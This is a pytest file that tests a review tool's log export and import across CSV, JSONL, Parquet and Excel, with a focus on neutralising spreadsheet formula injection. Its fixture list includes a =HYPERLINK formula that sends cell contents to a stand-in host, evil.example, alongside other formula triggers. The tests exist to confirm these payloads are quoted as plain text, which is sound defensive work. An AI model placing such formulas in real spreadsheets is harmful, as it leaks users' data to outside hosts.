"""Exports of the session log and reading them back (hive_review/log/exports.py, import_files.py and
the modules they use). One file for both directions, longer than most: nearly every test writes with
an export and reads back with ``read_export``, and shares the nasty log below."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from hive_review.log import columns as col
from hive_review.log.exports import (
    EXPORT_FORMATS,
    ExportRefusedError,
    excel_export_problem,
    export_csv,
    export_excel,
    export_jsonl,
    export_parquet,
)
from hive_review.log.frames import column_dtype, empty_log_frame
from hive_review.log.import_files import ImportFormatError, read_export
from hive_review.log.spreadsheet_cells import EXCEL_CELL_LIMIT, EXCEL_IMPORT_CELLS

# Text that must come back exactly: emoji, right-to-left, line breaks, CSV syntax, formula triggers
# (OWASP: = + - @ tab CR), text that already starts with quotes, and Excel's own escape syntax.
NASTY = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "click me")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+two quotes",
    "'",
    "'plain quote",
    "-",
    "émoji 🐝🎉 and ZWJ 👩‍💻",
    "مرحبا بالعالم",
    "שלום עולם",
    "line one\nline two\r\nline three\rend",
    'a "quoted" word, and a comma',
    "_x000D_ looks like an escape",
    "_xABCD\x01 control after hex",
    "controls \x00\x07\x0b\x1f",
    "  spaced out  ",
    "NA",
    "null",
    "None",
    "5",
]
TEXT_COLUMNS = [col.COMPLETION, col.COMMENT, col.IDEAL_ANSWER, col.LABELS, "input.tone"]
FORMULA_LOOKING = {text for text in NASTY if text[0] in "=+-@\t\r" or text.lstrip("'")[:1] in tuple("=+-@")}


def nasty_log() -> pd.DataFrame:
    rows = len(NASTY)
    reversed_nasty = list(reversed(NASTY))
    start = pd.Timestamp("2025-03-01T08:00:00.123456Z")
    frame = pd.DataFrame(
        {
            col.TIMESTAMP: [start + pd.Timedelta(minutes=i, microseconds=i) for i in range(rows)],
            col.SESSION_ID: "session-1",
            col.REVIEWER: "qa-bob",
            col.TASK: "support",
            col.PROMPT_NAME: "=prompt",
            col.PROMPT_VERSION: ["v1", "v2"] * (rows // 2),
            col.MODEL: "gemma3",
            col.SOURCE: "studio",
            col.ORIGIN: "playground",
            col.INPUTS_JSON: [json.dumps({"tone": text}, ensure_ascii=False) for text in NASTY],
            col.COMPLETION: NASTY,
            col.LATENCY_MS: np.linspace(12.5, 999.25, rows),
            col.MODEL_LATENCY_MS: np.linspace(10.25, 500.5, rows),
            col.FIRST_TOKEN_MS: [None if i % 2 else 3.125 for i in range(rows)],
            col.WAIT_MS: np.linspace(0.0, 499.0, rows),
            col.PROMPT_TOKENS: range(rows),
            col.COMPLETION_TOKENS: [None if i % 3 == 0 else i for i in range(rows)],
            col.TOTAL_TOKENS: range(10, 10 + rows),
            col.COST: [-1.5, *([0.000012345] * (rows - 1))],  # a negative number is never quoted
            col.GENERATION_ID: [f"gen-{i}" for i in range(rows)],
            col.THUMBS: (["up", "down", None] * rows)[:rows],
            col.RATING: ([5, None, 1, 3] * rows)[:rows],
            col.LABELS: reversed_nasty,
            col.COMMENT: reversed_nasty,
            col.IDEAL_ANSWER: NASTY,
            col.RATED_AT: [None if i % 2 else start for i in range(rows)],
            col.FEEDBACK_STATUS: "sent",
            col.FEEDBACK_ERROR: None,
            col.BATCH_ID: None,
            col.COMPARISON_ID: None,
            col.PREFERENCE: None,
            col.AB_POSITION: None,
            col.RUBRIC_NAME: (["default", None] * rows)[:rows],
            col.RUBRIC_VERSION: ([1, None, 2] * rows)[:rows],
            col.DIMENSIONS_JSON: [json.dumps({"tone": text}, ensure_ascii=False) for text in reversed_nasty],
            "input.tone": NASTY,
        }
    )
    return frame.astype({name: column_dtype(name) for name in frame.columns})


def assert_same_log(back: pd.DataFrame, original: pd.DataFrame, *, excel: bool = False) -> None:
    assert list(back.columns) == list(original.columns)
    for name in original.columns:
        assert back[name].dtype == original[name].dtype, name
    for name in [*TEXT_COLUMNS, col.INPUTS_JSON, col.PROMPT_NAME, col.GENERATION_ID]:
        assert back[name].tolist() == original[name].tolist(), name
    for name in (col.RATING, col.PROMPT_TOKENS, col.COMPLETION_TOKENS, col.TOTAL_TOKENS):
        pd.testing.assert_series_equal(back[name], original[name])
    pd.testing.assert_series_equal(back[col.LATENCY_MS], original[col.LATENCY_MS], rtol=1e-12)
    pd.testing.assert_series_equal(back[col.COST], original[col.COST], rtol=1e-12)
    for name in (col.TIMESTAMP, col.RATED_AT):
        drift = (back[name] - original[name]).abs().max()
        # Excel keeps a time as a fraction of a day: exact to the millisecond.
        assert pd.isna(drift) or drift <= pd.Timedelta(milliseconds=1 if excel else 0), name


@pytest.mark.parametrize("name", list(EXPORT_FORMATS))
def test_round_trip_gives_back_the_exact_log(name: str) -> None:
    original = nasty_log()
    export_format = EXPORT_FORMATS[name]
    back = read_export(export_format.write(original), f"log.{export_format.extension}")
    assert_same_log(back, original, excel=name == "Excel")


def test_export_formats_name_function_extension_and_mime() -> None:
    assert list(EXPORT_FORMATS) == ["CSV", "JSONL", "Parquet", "Excel"]
    write, extension, mime = EXPORT_FORMATS["Excel"]
    assert write is export_excel
    assert extension == "xlsx"
    assert mime == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert [f.extension for f in EXPORT_FORMATS.values()] == ["csv", "jsonl", "parquet", "xlsx"]


def test_csv_bytes_hold_neutralised_text_and_iso_utc_times() -> None:
    original = nasty_log()
    data = export_csv(original)
    assert not data.startswith(b"\xef\xbb\xbf")  # plain UTF-8, no BOM
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    for row, text in zip(rows, NASTY, strict=True):
        expected = "'" + text if text in FORMULA_LOOKING else text
        assert row[col.COMPLETION] == expected
        assert row["input.tone"] == expected
        assert row[col.PROMPT_NAME] == "'=prompt"
    assert rows[0][col.COST] == "-1.5"  # numeric columns are never quoted
    assert rows[0][col.TIMESTAMP] == "2025-03-01T08:00:00.123456Z"
    assert rows[1][col.RATED_AT] == ""


def test_csv_quotes_only_text_that_needs_it() -> None:
    data = export_csv(nasty_log()).decode("utf-8")
    assert "'-2" in data
    assert "'5" not in data
    assert "'émoji" not in data


def test_excel_cells_hold_neutralised_text_as_strings() -> None:
    original = nasty_log()
    sheet = openpyxl.load_workbook(io.BytesIO(export_excel(original))).active
    header = [cell.value for cell in sheet[1]]
    completion = header.index(col.COMPLETION)
    cells = [row[completion] for row in sheet.iter_rows(min_row=2)]
    by_text = dict(zip(NASTY, cells, strict=True))
    for text in FORMULA_LOOKING:
        assert by_text[text].data_type == "s", text  # text, never a formula
        assert by_text[text].value.startswith("'"), text
    assert by_text['=HYPERLINK("https://evil.example/?leak="&A1, "click me")'].value.startswith("'=HYPERLINK")
    assert by_text["\r=1+1"].value == "'_x000D_=1+1"  # Excel's escape: XML would turn CR into LF
    assert by_text["émoji 🐝🎉 and ZWJ 👩‍💻"].value == "émoji 🐝🎉 and ZWJ 👩‍💻"
    timestamp = sheet.cell(row=2, column=header.index(col.TIMESTAMP) + 1).value
    assert timestamp.tzinfo is None  # Excel has no time zones: naive UTC
    assert abs(pd.Timestamp(timestamp) - pd.Timestamp("2025-03-01T08:00:00.123456")) <= pd.Timedelta("1ms")
    assert sheet.cell(row=2, column=header.index(col.COST) + 1).value == -1.5


def test_jsonl_and_parquet_bytes_hold_the_exact_text() -> None:
    original = nasty_log()
    lines = export_jsonl(original).decode("utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert [record[col.COMPLETION] for record in records] == NASTY
    assert records[0][col.TIMESTAMP] == "2025-03-01T08:00:00.123456Z"
    assert records[0][col.RATING] == 5
    assert records[1][col.RATING] is None
    assert records[0][col.COST] == -1.5
    parquet = pd.read_parquet(io.BytesIO(export_parquet(original)))
    assert parquet[col.COMPLETION].tolist() == NASTY


def test_export_does_not_change_the_frame_it_is_given() -> None:
    original = nasty_log()
    before = original.copy(deep=True)
    for export_format in EXPORT_FORMATS.values():
        export_format.write(original)
    pd.testing.assert_frame_equal(original, before)


def test_pandas_2_style_object_columns_are_neutralised_too() -> None:
    original = nasty_log()
    as_objects = original.astype({name: object for name in TEXT_COLUMNS})
    data = export_csv(as_objects).decode("utf-8")
    assert "'=HYPERLINK" in data
    back = read_export(export_csv(as_objects), "log.csv")
    assert back[col.COMPLETION].tolist() == NASTY


def excel_cells(data: bytes) -> tuple[list[str], list[list[openpyxl.cell.Cell]]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    return [cell.value for cell in rows[0]], rows[1:]


def test_two_legal_17000_character_inputs_survive_an_excel_round_trip(tmp_path: Path) -> None:
    # inputs_json holds both inputs: 34,000+ characters, more than one Excel cell holds.
    original = nasty_log()
    long_inputs = {"tone": "w" * 17_000, "topic": "🐝" * 17_000}
    original.loc[0, col.INPUTS_JSON] = json.dumps(long_inputs, ensure_ascii=False)
    original.loc[0, "input.tone"] = long_inputs["tone"]
    path = tmp_path / "log.xlsx"
    path.write_bytes(export_excel(original))
    back = read_export(path.read_bytes(), path.name)
    assert json.loads(back[col.INPUTS_JSON].iloc[0]) == long_inputs
    assert_same_log(back, original, excel=True)


def test_text_longer_than_an_excel_cell_continues_in_part_columns() -> None:
    part = EXCEL_CELL_LIMIT - 1  # each part leaves room for a formula quote
    formula_parts = "a" * part + "=HYPERLINK(1)" + "b" * (part - 13) + "'-2" + "c" * 100
    escape_across_parts = "d" * (part - 3) + "\x01\r" + "e" * 40_000  # _x0001_ is cut by the part boundary
    emoji_across_parts = "f" + "🐝" * 20_000  # a bee would be cut in half at the boundary
    long_texts = [formula_parts, escape_across_parts, emoji_across_parts, "x" * 100_000]
    original = nasty_log()
    original.loc[0:3, col.COMPLETION] = long_texts
    original.loc[4, col.COMMENT] = "=" * 40_000
    header, rows = excel_cells(export_excel(original))
    completion = header.index(col.COMPLETION)
    assert header[completion + 1 : completion + 4] == [f"{col.COMPLETION} (part {n})" for n in (2, 3, 4)]
    assert header[header.index(col.COMMENT) + 1] == f"{col.COMMENT} (part 2)"
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str):
                assert len(cell.value.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT
                assert cell.data_type == "s"  # a part starting with "=" is quoted text, never a formula
    assert rows[0][completion + 1].value.startswith("'=HYPERLINK(1)")
    assert rows[0][completion + 2].value.startswith("''-2")
    assert rows[5][completion + 1].value is None  # short text has no parts
    back = read_export(export_excel(original), "log.xlsx")
    assert back[col.COMPLETION].iloc[:4].tolist() == long_texts
    assert back[col.COMMENT].iloc[4] == "=" * 40_000
    assert list(back.columns) == list(original.columns)  # the part columns are joined, not kept
    for name in ("CSV", "JSONL", "Parquet"):
        export_format = EXPORT_FORMATS[name]
        again = read_export(export_format.write(original), f"log.{export_format.extension}")
        assert again[col.COMPLETION].iloc[:4].tolist() == long_texts, name


def test_excel_parts_follow_their_row_when_the_sheet_is_sorted(tmp_path: Path) -> None:
    original = nasty_log().iloc[:3].reset_index(drop=True)
    original.loc[0, col.COMPLETION] = "z" * 50_000
    workbook = openpyxl.load_workbook(io.BytesIO(export_excel(original)))
    sheet = workbook.active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    for number, values in enumerate(reversed(rows), start=2):  # a reviewer sorted the rows backwards
        for column, value in enumerate(values, start=1):
            sheet.cell(row=number, column=column, value=value)
    path = tmp_path / "sorted.xlsx"
    workbook.save(path)
    back = read_export(path.read_bytes(), path.name)
    assert back[col.GENERATION_ID].tolist() == ["gen-2", "gen-1", "gen-0"]
    assert back[col.COMPLETION].iloc[2] == "z" * 50_000


@pytest.mark.parametrize("name", ["CSV", "Parquet", "Excel"])
def test_an_empty_log_round_trips_with_its_dtypes(name: str) -> None:
    empty = empty_log_frame(["tone"])
    export_format = EXPORT_FORMATS[name]
    back = read_export(export_format.write(empty), f"log.{export_format.extension}")
    assert len(back) == 0
    assert list(back.columns) == list(empty.columns)
    assert back.dtypes.tolist() == empty.dtypes.tolist()


def test_an_empty_log_as_jsonl_is_an_empty_file_and_refused() -> None:
    # JSONL has no header: with no rows there is nothing to say which columns a log has.
    data = export_jsonl(empty_log_frame())
    assert not data.strip()
    with pytest.raises(ImportFormatError, match="is empty"):
        read_export(data, "log.jsonl")


def test_jsonl_text_that_looks_like_a_date_stays_text() -> None:
    original = nasty_log()
    original["input.created_at"] = "2024-01-01"
    back = read_export(export_jsonl(original), "log.jsonl")
    assert back["input.created_at"].tolist() == ["2024-01-01"] * len(original)


def test_columns_the_file_lacks_are_added_empty() -> None:
    original = nasty_log()
    slim = original[list(col.REQUIRED_FOR_IMPORT)]
    back = read_export(export_csv(slim), "slim.csv")
    assert list(back.columns) == list(col.LOG_COLUMNS)
    assert back[col.RATING].isna().all()
    assert back[col.RATING].dtype == pd.Int64Dtype()
    assert back[col.COMPLETION].tolist() == NASTY


def test_excel_saved_csv_with_a_bom_is_read() -> None:
    data = b"\xef\xbb\xbf" + export_csv(nasty_log())
    assert read_export(data, "log.csv")[col.COMPLETION].tolist() == NASTY


# ----------------------------------------------------------------------------------- bad files


def test_unknown_extension_is_refused_with_the_formats_it_reads() -> None:
    with pytest.raises(ImportFormatError, match=r"reads \.csv, \.jsonl, \.parquet and \.xlsx"):
        read_export(export_csv(nasty_log()), "log.xls")


@pytest.mark.parametrize("filename", ["log.csv", "log.jsonl", "log.parquet", "log.xlsx"])
def test_an_empty_file_is_refused(filename: str) -> None:
    with pytest.raises(ImportFormatError, match="is empty"):
        read_export(b"", filename)
    with pytest.raises(ImportFormatError, match="is empty"):
        read_export(b"  \n", filename)


@pytest.mark.parametrize("filename", ["log.parquet", "log.xlsx"])
def test_garbage_is_refused_as_unreadable(filename: str) -> None:
    with pytest.raises(ImportFormatError, match="could not be read as") as raised:
        read_export(b"this is not a binary file at all", filename)
    assert "Export it again from Hive Review's Log page" in str(raised.value)


def test_a_csv_that_is_not_utf8_is_refused() -> None:
    data = "reviewer,task\nBjörn,support\n".encode("latin-1")
    with pytest.raises(ImportFormatError, match="save it as UTF-8"):
        read_export(data, "log.csv")


def test_a_jsonl_line_that_is_not_an_object_is_named() -> None:
    lines = export_jsonl(nasty_log()).decode("utf-8").splitlines()
    lines[2] = "{not json"
    with pytest.raises(ImportFormatError, match="Line 3 is not a JSON object"):
        read_export("\n".join(lines).encode("utf-8"), "log.jsonl")


def test_missing_columns_are_named_with_the_fix() -> None:
    original = nasty_log().drop(columns=[col.REVIEWER, col.INPUTS_JSON])
    with pytest.raises(ImportFormatError) as raised:
        read_export(export_csv(original), "partial.csv")
    message = str(raised.value)
    assert "lacks the columns reviewer, inputs_json" in message
    assert "Export it again from Hive Review's Log page, or add them to the file" in message  # each named once


def test_values_of_the_wrong_kind_name_the_column_and_the_row() -> None:
    original = nasty_log().astype({col.RATING: object, col.LATENCY_MS: object, col.TIMESTAMP: object})
    original.loc[2, col.RATING] = "great"
    original.loc[4, col.RATING] = 7
    original.loc[1, col.LATENCY_MS] = "fast"
    original.loc[0, col.TIMESTAMP] = "yesterday"
    original.loc[3, col.INPUTS_JSON] = "[1, 2]"
    original.loc[5, col.THUMBS] = "sideways"
    with pytest.raises(ImportFormatError) as raised:
        read_export(export_csv(original), "edited.csv")
    message = str(raised.value)
    assert "column 'rating' must hold whole numbers from 1 to 5, but rows 3, 5 do not (row 3: 'great')" in message
    assert "column 'latency_ms' must hold numbers, but row 2 does not" in message
    assert "column 'timestamp' must hold ISO 8601 times, but row 1 does not (row 1: 'yesterday')" in message
    assert "column 'inputs_json' must hold a JSON object" in message
    assert 'column \'thumbs\' must hold "up", "down" or nothing, but row 6 does not' in message
    assert "fix those cells" in message


def test_a_row_without_a_generation_id_is_refused() -> None:
    records = [json.loads(line) for line in export_jsonl(nasty_log()).decode("utf-8").splitlines()]
    records[1][col.GENERATION_ID] = "  "
    data = "\n".join(json.dumps(record) for record in records).encode("utf-8")
    with pytest.raises(ImportFormatError, match="column 'generation_id' must hold an id on every row"):
        read_export(data, "log.jsonl")


# ------------------------------------------------------------------------- size of Excel imports


def xlsx_file(path: Path, header: list[str], data_rows: int, row_cells: int, *, dimension: str | None) -> bytes:
    """A real .xlsx whose sheet XML is written here, as Excel or another tool would: openpyxl
    would take minutes to write the sizes these tests need."""
    workbook = openpyxl.Workbook(write_only=True)
    workbook.create_sheet("log")
    base = io.BytesIO()
    workbook.save(base)
    header_cells = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in header)
    row = "<c><v>1</v></c>" * row_cells
    size = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = "".join(
        [
            '<?xml version="1.0" encoding="UTF-8"?>',
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
            size,
            f'<sheetData><row r="1">{header_cells}</row>',
            *(f'<row r="{number}">{row}</row>' for number in range(2, data_rows + 2)),
            "</sheetData></worksheet>",
        ]
    )
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = sheet.encode() if item.filename.startswith("xl/worksheets/") else source.read(item)
            target.writestr(item.filename, content)
    return path.read_bytes()


def test_an_excel_sheet_declaring_too_many_cells_is_refused_before_its_rows_are_read(tmp_path: Path) -> None:
    # Excel writes the used range first in the sheet: 40,000 rows of 30 columns is 1.2 million cells.
    header = [*col.REQUIRED_FOR_IMPORT, *(f"extra{n}" for n in range(24))]
    data = xlsx_file(tmp_path / "big.xlsx", header, 40_000, 30, dimension="A1:AD40001")
    with pytest.raises(ImportFormatError) as raised:
        read_export(data, "big.xlsx")
    message = str(raised.value)
    assert "The sheet of 'big.xlsx' declares 40,000 rows of 30 columns (1,200,000 cells)" in message
    assert f"reads at most {EXCEL_IMPORT_CELLS:,} cells from an Excel file (33,333 rows of this width)" in message
    assert "delete them in Excel and save again" in message
    assert "CSV, JSONL or Parquet export" in message


def test_the_issues_four_million_cells_are_refused_for_their_size_before_being_read(tmp_path: Path) -> None:
    # A 0.4 MB file of 4 million cells, none of the log's columns and no declared size (as openpyxl's
    # write-only mode saves): reading every row first took 102 s before it was refused.
    data = xlsx_file(tmp_path / "sheet.xlsx", [f"c{n}" for n in range(40)], 100_000, 40, dimension=None)
    assert len(data) < 1_000_000
    # Refused for its size (counted without parsing), not for its columns (which needs the rows read).
    with pytest.raises(ImportFormatError, match=f"The sheet of 'sheet.xlsx' holds more than {EXCEL_IMPORT_CELLS:,}"):
        read_export(data, "sheet.xlsx")


def test_a_header_without_the_needed_columns_is_refused_before_the_rows_are_read(tmp_path: Path) -> None:
    # The rows below such a header are never read: a cell no reader can parse there changes nothing.
    path = tmp_path / "other.xlsx"
    xlsx_file(path, ["name", "score"], 3, 2, dimension="A1:B4")
    broken = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(broken, "w") as target:
        for item in source.infolist():
            content = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                content = content.replace(b"<v>1</v>", b"<v>not a number</v>", 1)
            target.writestr(item.filename, content)
    with pytest.raises(ImportFormatError) as raised:
        read_export(broken.getvalue(), "other.xlsx")
    assert str(raised.value).startswith("'other.xlsx' lacks the columns reviewer, task, prompt_version, inputs_json")


def test_an_excel_sheet_larger_than_it_declares_is_cut_off_while_reading(tmp_path: Path) -> None:
    # A wide header makes the cap come after 100 rows: the file says it is 10 columns by 2 rows.
    header = [*col.REQUIRED_FOR_IMPORT, *(f"extra{n}" for n in range(10_000 - len(col.REQUIRED_FOR_IMPORT)))]
    data = xlsx_file(tmp_path / "wide.xlsx", header, 500, 1, dimension="A1:J2")
    with pytest.raises(ImportFormatError) as raised:
        read_export(data, "wide.xlsx")
    assert "The sheet of 'wide.xlsx' has more than 100 rows of 10,000 columns" in str(raised.value)


def test_an_excel_export_refuses_a_log_it_could_not_import_again() -> None:
    rows = EXCEL_IMPORT_CELLS // len(col.LOG_COLUMNS) + 1
    log = empty_log_frame().reindex(range(rows))
    problem = excel_export_problem(log)
    assert problem is not None
    assert f"The log has {rows:,} rows of {len(col.LOG_COLUMNS)} columns" in problem
    assert f"at most {rows - 1:,} rows, or take the CSV, JSONL or Parquet export" in problem
    with pytest.raises(ExportRefusedError) as raised:
        export_excel(log)
    assert str(raised.value) == problem
    assert excel_export_problem(log.iloc[: rows - 1]) is None


# ------------------------------------------------------------------------------ values of the wrong type


def test_a_parquet_file_with_lists_in_completion_is_a_message(tmp_path: Path) -> None:
    # A tool that keeps a completion as its chunks: a Parquet column holds one type, here lists.
    table = pa.Table.from_pandas(nasty_log(), preserve_index=False).replace_schema_metadata(None)
    chunks = [["Dear customer,", "thank you"] if row in (1, 4) else None for row in range(table.num_rows)]
    table = table.set_column(table.schema.get_field_index(col.COMPLETION), col.COMPLETION, pa.array(chunks))
    path = tmp_path / "lists.parquet"
    pq.write_table(table, path)
    with pytest.raises(ImportFormatError) as raised:
        read_export(path.read_bytes(), path.name)
    message = str(raised.value)
    assert (
        "column 'completion' must hold text, not a list, a mapping or bytes (write the text itself in the cell), "
        "but rows 2, 5 do not (row 2: a list \"['Dear customer,', 'thank you']\")"
    ) in message
    assert message.startswith("'lists.parquet' has values of the wrong kind")
    assert message.endswith("or fix those cells (rows are counted from 1, below the header).")


def test_every_column_of_the_wrong_type_is_named_with_a_row(tmp_path: Path) -> None:
    log = nasty_log()
    table = pa.Table.from_pandas(log, preserve_index=False)

    def replaced(table: pa.Table, name: str, values: pa.Array) -> pa.Table:
        return table.set_column(table.schema.get_field_index(name), name, values)

    rows = len(log)
    table = replaced(table, col.RATING, pa.array([[5]] + [None] * (rows - 1)))
    table = replaced(table, col.TIMESTAMP, pa.array(range(rows), pa.int64()))
    table = replaced(table, col.COMMENT, pa.array([None, b"\x00\x01"] + [None] * (rows - 2), pa.binary()))
    table = replaced(table, col.LATENCY_MS, pa.array([None, None, {"ms": 3}] + [None] * (rows - 3)))
    path = tmp_path / "typed.parquet"
    pq.write_table(table, path)
    with pytest.raises(ImportFormatError) as raised:
        read_export(path.read_bytes(), path.name)
    message = str(raised.value)
    assert "column 'rating' must hold single values, not a list, a mapping or bytes" in message
    assert "but row 1 does not (row 1: a list '[5]')" in message
    assert f"column 'timestamp' must hold ISO 8601 times, but rows 1, 2, 3, 4, 5 and {rows - 5} more" in message
    assert "column 'comment' must hold text, not a list, a mapping or bytes" in message
    assert "row 2: bytes" in message
    assert "column 'latency_ms' must hold single values" in message
    assert "(row 3: a mapping \"{'ms'" in message


def test_a_jsonl_with_an_object_in_inputs_json_is_a_message(tmp_path: Path) -> None:
    records = [json.loads(line) for line in export_jsonl(nasty_log()).decode().splitlines()]
    records[0][col.INPUTS_JSON] = {"tone": "warm"}  # the object itself, not its JSON text
    path = tmp_path / "hand-made.jsonl"
    path.write_text("\n".join(json.dumps(record) for record in records), "utf-8")
    with pytest.raises(ImportFormatError) as raised:
        read_export(path.read_bytes(), path.name)
    message = str(raised.value)
    assert "column 'inputs_json' must hold text, not a list, a mapping or bytes" in message
    assert "row 1: a mapping" in message


# ---------------------------------------------------------------------------- encodings, long cells


@pytest.mark.parametrize(("name", "encoding"), [("CSV", "utf-16-le"), ("JSONL", "utf-16-le"), ("CSV", "utf-16")])
def test_a_utf16_text_export_is_read_as_text(tmp_path: Path, name: str, encoding: str) -> None:
    # A spreadsheet's "Unicode text" is UTF-16, little-endian, with or without a byte-order mark.
    original = nasty_log()
    export_format = EXPORT_FORMATS[name]
    path = tmp_path / f"saved.{export_format.extension}"
    path.write_bytes(export_format.write(original).decode("utf-8").encode(encoding))
    back = read_export(path.read_bytes(), path.name)
    assert not any("\x00" in text for text in back[col.REVIEWER])  # no NUL after every character
    assert_same_log(back, original)


def test_a_broken_utf16_file_is_refused_with_the_fix(tmp_path: Path) -> None:
    path = tmp_path / "cut.csv"
    path.write_bytes(export_csv(nasty_log()).decode("utf-8").encode("utf-16-le")[:-1])  # half a character
    with pytest.raises(ImportFormatError) as raised:
        read_export(path.read_bytes(), path.name)
    message = str(raised.value)
    assert "'cut.csv' looks like UTF-16 text but is not valid UTF-16" in message
    assert "save it as UTF-8 CSV" in message


def test_a_csv_cell_of_150000_characters_imports_with_either_csv_parser() -> None:
    # A NUL character anywhere sends the file to pandas' Python parser, which is Python's csv module
    # and its field size limit (131,072 characters by default).
    original = nasty_log()
    original.loc[1, col.COMPLETION] = "long " * 30_000
    has_nul = original[col.COMPLETION].str.contains("\x00") | original[col.COMMENT].str.contains("\x00")
    with_nul, without_nul = export_csv(original), export_csv(original[~has_nul])
    assert b"\x00" in with_nul
    assert b"\x00" not in without_nul
    for data in (with_nul, without_nul):
        back = read_export(data, "log.csv")
        assert back[col.COMPLETION].iloc[1] == "long " * 30_000
